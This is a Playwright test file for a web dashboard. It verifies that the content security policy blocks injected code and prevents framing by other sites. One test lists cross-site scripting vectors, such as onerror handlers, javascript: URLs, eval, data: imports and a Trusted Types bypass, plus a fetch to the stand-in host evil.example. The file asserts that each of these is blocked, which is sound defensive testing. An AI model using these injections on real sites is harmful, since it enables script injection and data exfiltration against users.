import type { BrowserContext, Page } from 'playwright/test';
import { expect, signIn, test } from './fixtures.ts';

/** The policy violations in a browser context, collected as they happen. */
async function refusedIn(context: BrowserContext): Promise<string[]> {
  const refused: string[] = [];
  await context.exposeBinding('reportRefusal', (_source, refusal: string) => refused.push(refusal));
  await context.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
    window.reportRefusal([event.effectiveDirective, event.blockedURI, event.sample, event.sourceFile].join(' ')))`);
  context.on('console', (message) => {
    if (/Content Security Policy|Trusted/i.test(message.text())) refused.push(message.text());
  });
  return refused;
}

test('the dashboard complies with its content security policy', async ({ browser, world }) => {
  const context = await browser.newContext({ baseURL: world.url });
  const refused = await refusedIn(context);
  const page = await context.newPage();
  try {
    const { admin } = world.people;
    await page.goto('/sign-in');
    await page.getByLabel('Username or email').fill(admin.username);
    await page.getByLabel('Password').fill(admin.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByRole('link', { name: world.organisation }).first()).toBeVisible();

    const gated = await world.gated();
    await page.goto(gated.address);
    await expect(page.getByText('0/2 approvals')).toBeVisible();
    await page.getByRole('button', { name: 'Bypass' }).first().click();
    await expect(page.getByRole('alertdialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: admin.username }).click();
    await page.keyboard.press('Escape');
    for (const path of [
      world.page(),
      world.page('policies'),
      world.page('pipelines'),
      `/orgs/${world.organisation}/environments`,
      `/orgs/${world.organisation}/members`,
      `/orgs/${world.organisation}/history`,
      '/account',
      '/',
    ]) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
    expect(refused).toEqual([]);
  } finally {
    await context.close();
  }
});

/** Runs a script in the page as injected code would, until it has run or the browser reports that it blocked it; whether it ran. */
const attempt = (page: Page, script: string): Promise<boolean> =>
  page.evaluate(`(async () => {
    // The code that page.evaluate runs may use eval, but only in its own task.
    await new Promise((done) => setTimeout(done, 10));
    const blocked = new Promise((done) => addEventListener('securitypolicyviolation', done, { once: true }));
    try { ${script} } catch { return false; }
    const ran = new Promise((done) => setInterval(() => window.wasHere === true && done(), 10));
    await Promise.race([blocked, ran]);
    return window.wasHere === true;
  })()`);

test('injected code neither runs nor sends data', async ({ page, world }) => {
  await signIn(page, world.url, world.people.reviewer);
  // The host answers and allows reading, so that only the policy can prevent the request.
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ body: 'reached', headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.goto(`${world.url}/`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const element = (name: string, set: string) =>
    `const it = document.createElement('${name}'); ${set}; document.body.append(it);`;
  for (const script of [
    element('script', `it.textContent = 'window.wasHere = true'`),
    element('script', `it.text = 'window.wasHere = true'`),
    element('script', `it.src = 'data:text/javascript,window.wasHere=true'`),
    element('div', `it.innerHTML = '<img src=x onerror="window.wasHere=true">'`),
    element('div', `it.insertAdjacentHTML('beforeend', '<img src=x onerror="window.wasHere=true">')`),
    element('div', `it.setAttribute('onclick', 'window.wasHere=true'); it.click()`),
    element('iframe', `it.srcdoc = '<script>parent.wasHere=true</script>'`),
    element('a', `it.href = 'javascript:window.wasHere=true'; it.click()`),
    `eval('window.wasHere = true')`,
    `new Function('window.wasHere = true')()`,
    `setTimeout('window.wasHere = true', 0)`,
    `document.write('<script>window.wasHere = true</script>')`,
    `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.wasHere = true; }`,
    `await import('data:text/javascript,window.wasHere=true')`,
    `trustedTypes.createPolicy('evil', { createHTML: (text) => text }); window.wasHere = true;`,
    `await fetch('https://evil.example/?'); window.wasHere = true;`,
  ]) {
    expect([script, await attempt(page, script)]).toEqual([script, false]);
  }
  // The page is unchanged.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});

test('refuses to be framed by other sites', async ({ browser, world }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    await page.route('http://localhost:1/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${world.url}/" name="held"></iframe>` }),
    );
    await page.goto('http://localhost:1/');
    await expect
      .poll(() =>
        page
          .frames()
          .find((frame) => frame.name() === 'held')
          ?.url(),
      )
      .toMatch(/^chrome-error:/);
  } finally {
    await context.close();
  }
});
